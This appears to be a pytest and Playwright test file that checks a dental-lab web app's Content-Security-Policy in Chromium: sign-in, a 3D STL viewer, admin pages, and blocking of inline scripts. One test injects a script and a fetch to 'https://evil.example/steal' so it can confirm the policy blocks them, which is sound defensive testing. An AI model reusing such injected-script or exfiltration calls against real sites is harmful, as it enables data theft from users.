"""The pages work in Chromium with the production Content-Security-Policy on, and the policy bites.

(Named to run after test_files_journey.py, which starts a Playwright of its own for WebGL: two sync
Playwrights cannot be alive in one thread.)
"""

import pytest

from dentallab.storage_config import r2_storage
from tests.factories import TEST_PASSWORD, AdminFactory, TechnicianFactory
from tests.fixtures.browser import sign_in

# Records every violation the browser reports, from before any page script runs.
LISTEN = """
window.__csp = [];
document.addEventListener('securitypolicyviolation', e => window.__csp.push(e.violatedDirective + ' ' + e.blockedURI));
"""
R2 = "http://127.0.0.1:9"  # a closed port: fetches fail on the network, never on the policy

ASCII_STL = """solid t
facet normal 0 0 1
outer loop
vertex 0 0 0
vertex 1 0 0
vertex 0 1 0
endloop
endfacet
endsolid t
"""


@pytest.fixture
def csp_page(page, settings, transactional_db):
    # Files in "R2": the policy lets the browser reach the endpoint (the pages here never call it).
    settings.STORAGES = {
        **settings.STORAGES,
        "default": r2_storage(bucket="lab-files", endpoint=R2, access_key="a", secret_key="s"),
    }
    page.add_init_script(LISTEN)
    console_errors = []
    page.on("console", lambda msg: console_errors.append(msg.text) if msg.type == "error" else None)
    page.console_errors = console_errors
    return page


def violations(page) -> list[str]:
    return page.evaluate("window.__csp")


def test_sign_in_and_dashboard_load_without_violations(csp_page):
    TechnicianFactory(email="tech@lab.test", name="Tess Tech")
    response = csp_page.goto("/login/")
    assert "script-src 'self'" in response.headers["content-security-policy"]
    assert csp_page.evaluate("getComputedStyle(document.body).fontFamily")  # the stylesheets loaded
    sign_in(csp_page, "tech@lab.test", TEST_PASSWORD)
    csp_page.wait_for_url("**/")
    assert csp_page.get_by_test_id("user-name").inner_text() == "Tess Tech"
    csp_page.wait_for_load_state("networkidle")
    assert violations(csp_page) == []
    assert csp_page.console_errors == []


def test_the_vendored_viewer_runs_under_the_policy(csp_page):
    csp_page.goto("/login/")
    triangles = csp_page.evaluate(
        """async (stl) => {
            const THREE = await import('/static/vendor/three/three.module.js');
            const { STLLoader } = await import('/static/vendor/three/addons/loaders/STLLoader.js');
            const geometry = new STLLoader().parse(stl);
            new THREE.Mesh(geometry, new THREE.MeshStandardMaterial());
            return geometry.attributes.position.count / 3;
        }""",
        ASCII_STL,
    )
    assert triangles == 1
    # Direct uploads: the browser may talk to the storage endpoint (the request fails here only
    # because nothing listens on that port).
    csp_page.evaluate(f"fetch('{R2}/bucket/key', {{method: 'PUT', body: 'x'}}).catch(() => null)")
    csp_page.wait_for_timeout(200)
    assert violations(csp_page) == []
    assert [e for e in csp_page.console_errors if "net::" not in e and "Failed to fetch" not in e] == []


def test_inline_script_and_foreign_connections_are_blocked(csp_page):
    csp_page.goto("/login/")
    csp_page.evaluate(
        """() => {
            const s = document.createElement('script');
            s.textContent = 'window.__inlineRan = true';
            document.body.append(s);
            fetch('https://evil.example/steal').catch(() => null);
        }"""
    )
    csp_page.wait_for_function("window.__csp.length >= 2")
    assert csp_page.evaluate("window.__inlineRan") is None
    found = violations(csp_page)
    assert any(v.startswith("script-src") and v.endswith("inline") for v in found), found
    assert any(v.startswith("connect-src") and "evil.example" in v for v in found), found


def test_the_admin_works_under_the_policy(csp_page):
    AdminFactory(email="admin@lab.test", is_superuser=True, is_staff=True)
    sign_in(csp_page, "admin@lab.test", TEST_PASSWORD)
    csp_page.wait_for_url("**/")
    for link in ("/admin/", "/admin/accounts/user/", "/admin/accounts/user/add/"):
        assert csp_page.goto(link).status == 200
        csp_page.wait_for_load_state("networkidle")
    assert violations(csp_page) == []
